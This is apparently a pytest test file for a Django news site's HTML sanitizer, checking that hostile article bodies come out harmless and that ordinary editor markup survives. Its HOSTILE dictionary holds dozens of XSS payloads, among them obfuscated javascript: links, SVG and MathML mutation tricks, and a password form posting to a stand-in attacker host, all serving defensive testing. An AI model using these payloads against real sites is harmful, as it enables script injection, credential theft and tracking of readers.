"""Hostile article bodies never reach a reader: whatever an editor's browser sends, nh3 keeps only what we allow."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from news.models import Article
from news.sanitizer import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize
from tests.factories import localized, make_article

# Each hostile body, named for what it tries. The sanitized result must pass assert_safe().
HOSTILE = {
    # Scripts
    "script tag": "<p>Hi</p><script>alert(1)</script>",
    "upper-case script with source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by a script": "<scr<script>ipt>alert(1)</script>",
    "script in a script's clothing": "<<script>script>alert(1)<</script>/script>",
    "script after a closed paragraph": "</p><script>alert(1)</script><p>",
    "script inside a comment": "<!--<script>alert(1)</script>-->text",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a template": "<template><script>alert(1)</script></template>",
    "script in a textarea": "<textarea><script>alert(1)</script></textarea>",
    "noscript title breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Event handlers
    "img onerror": "<img src=x onerror=alert(1)>",
    "own img with onerror": '<img src="/media/covers/a.jpg" onerror="alert(1)">',
    "img without quotes or spaces": "<img/src=x/onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>text</body>",
    "paragraph handlers": '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1)>x</p>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "handler after a slash": '<a href="https://ok.kz"/onmouseover="alert(1)">x</a>',
    "eval of own attribute": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    # javascript: links in many spellings
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "leading spaces": '<a href="   javascript:alert(1)">x</a>',
    "tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "hex entities without semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "padded decimal entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "control character first": '<a href="\x01javascript:alert(1)">x</a>',
    "unquoted": "<a href=javascript:alert(1)>x</a>",
    "backticks": "<a href=`javascript:alert(1)`>x</a>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "javascript in img src": '<img src="javascript:alert(1)">',
    "javascript in a form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    # data: URLs
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data image": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "data SVG image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "data with upper case and spaces": '<a href=" DATA:text/html,<script>alert(1)</script>">x</a>',
    # SVG and MathML
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "svg animate": "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "svg set": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg style": "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "math link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "svg in a paragraph": "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
    # Frames, objects, forms
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": (
        '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" '
        'name="password"></label><button formaction="javascript:alert(1)">Go</button></form>'
    ),
    "select": "<select><option>x</option></select>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    # Styles and page takeover
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style overlay": '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    "style element": "<style>@import 'https://evil.example/x.css';</style>text",
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "classes and ids": '<p id="main" class="hidden" lang="ru" dir="rtl">x</p>',
    # Images the site does not serve
    "external image": '<img src="https://evil.example/track.gif">',
    "protocol-relative image": '<img src="//evil.example/media/x.png">',
    "image path escaping media": '<img src="/media/../admin/x.png">',
    "image path with backslashes": '<img src="/media\\..\\x.png">',
    "image srcset": '<img src="/media/a.jpg" srcset="https://evil.example/x.png 1x">',
    "image with non-numeric size": '<img src="/media/a.jpg" width="100%" height="expression(alert(1))">',
    # Links that would not open safely
    "target blank": '<a href="https://ok.kz" target="_blank">x</a>',
    "own rel": '<a href="https://ok.kz" rel="opener">x</a>',
    "ping": '<a href="https://ok.kz" ping="https://evil.example/track">x</a>',
    # Nested and broken markup
    "unclosed tags": '<p><a href="https://ok.kz"><b>unclosed',
    "mis-nested": "<p><b><i>x</p></b></i>",
    "unterminated attribute": '<img src="/media/a.jpg',
    "unterminated tag": '<a href="https://ok.kz" <script>alert(1)</script>>x</a>',
    "double open": "<<img src=x onerror=alert(1)//>",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "deep nesting": "<blockquote>" * 200 + "<script>alert(1)</script>" + "</blockquote>" * 200,
    "table breakout": "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "headings and list soup": "<h1 onclick=x>T</h1><ul><li><ol><li><h5>deep</h5></ol></ul>",
}

URL_SCHEMES = {"", "http", "https", "mailto"}
ADDED_ATTRIBUTES = {"a": {"rel"}, "img": {"loading", "decoding"}}


class Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.comments = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)


def assert_safe(html):
    """Only allowed tags and attributes; links http(s)/mailto/relative and safe; images only our own files."""
    markup = Markup()
    markup.feed(html)
    markup.close()
    assert not markup.comments, html
    for tag, attributes in markup.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(tag, set()) | ADDED_ATTRIBUTES.get(tag, set())
        for name, value in attributes:
            assert name in allowed, (tag, name, html)
            if name == "href":
                assert urlsplit(value.strip()).scheme.lower() in URL_SCHEMES, html
            if name == "src":
                assert value.startswith(("/media/", "/static/")) and ".." not in value and "\\" not in value, html
            if name in {"width", "height"}:
                assert value.isdigit(), html
        if tag == "a" and "href" in dict(attributes):
            assert set(dict(attributes)["rel"].split()) >= {"noopener", "noreferrer"}, html
    lowered = html.lower()
    for word in ("<script", "<svg", "<iframe", "<form", "<input", "<style", "style=", "onerror", "onload"):
        assert word not in lowered, (word, html)


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_bodies_are_made_harmless(body):
    cleaned = sanitize(body)
    assert_safe(cleaned)
    assert_safe(sanitize(cleaned))  # and stays harmless when cleaned again (on render)


def test_what_editors_write_survives():
    body = (
        "<h2>Heading</h2><h3>Sub</h3><p>Some <strong>bold</strong>, <em>italic</em>, <u>u</u>, <s>s</s>, "
        'H<sub>2</sub>O and x<sup>2</sup>.<br>Next line.</p><ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        "<blockquote><p>Quote</p></blockquote><hr>"
        '<p><a href="https://www.akorda.kz/" title="Akorda">Akorda</a> · <a href="mailto:info@birgemiz.kz">mail</a>'
        ' · <a href="/kk/news/">news</a></p>'
        '<figure><img src="/media/covers/2026/01/a-800w.jpg" alt="Еріктілер" width="800" height="450">'
        "<figcaption>Caption</figcaption></figure>"
    )
    cleaned = sanitize(body)
    for kept in [
        "<h2>Heading</h2>",
        "<h3>Sub</h3>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<u>u</u>",
        "<s>s</s>",
        "<sub>2</sub>",
        "<sup>2</sup>",
        "<br>",
        "<ul><li>one</li></ul>",
        '<ol start="3">',
        "<blockquote><p>Quote</p></blockquote>",
        "<hr>",
        'href="https://www.akorda.kz/"',
        'href="mailto:info@birgemiz.kz"',
        'href="/kk/news/"',
        'src="/media/covers/2026/01/a-800w.jpg"',
        'alt="Еріктілер"',
        "<figcaption>Caption</figcaption>",
    ]:
        assert kept in cleaned, kept
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'loading="lazy"' in cleaned
    assert_safe(cleaned)


def test_images_of_this_site_given_by_full_address_keep_their_path():
    cleaned = sanitize('<img src="http://localhost/media/covers/a.jpg" alt="">')
    assert 'src="/media/covers/a.jpg"' in cleaned


def test_an_image_from_elsewhere_is_removed_whole_and_its_text_stays():
    assert sanitize('<p>Before <img src="https://evil.example/x.png" alt="a > b"> after</p>') == "<p>Before  after</p>"


@pytest.mark.parametrize("empty", ["", "<p></p>", "<p><br></p>", " <p> </p>\n<p>&nbsp;</p>", "<script>x</script>"])
def test_a_body_with_nothing_to_read_is_empty(empty):
    assert sanitize(empty) == ""


@pytest.mark.django_db
def test_saving_sanitizes_the_body_in_every_language():
    article = make_article(
        body_kk='<p onclick="x()">Мәтін</p><script>alert(1)</script>',
        body_ru='<a href="javascript:alert(1)">Текст</a>',
        body_en='<iframe src="https://evil.example"></iframe><p style="color:red">Text</p>',
    )
    article.refresh_from_db()
    for language in ["kk", "ru", "en"]:
        assert_safe(getattr(article, f"body_{language}"))
    assert article.body_kk == "<p>Мәтін</p>"
    assert article.body_en == "<p>Text</p>"


@pytest.mark.django_db
@pytest.mark.parametrize("body", [HOSTILE["javascript link"], HOSTILE["external image"], HOSTILE["svg onload"]])
def test_unsafe_html_already_in_the_database_is_sanitized_on_render(client, body):
    article = make_article()
    Article.objects.filter(pk=article.pk).update(body_kk=body + "<p>Мәтін</p>")
    html = client.get(localized(article, "kk")).text
    prose = html[html.index('<div class="prose"') : html.index("</div>", html.index('<div class="prose"'))]
    assert_safe(prose[prose.index(">") + 1 :])
    assert "Мәтін" in prose
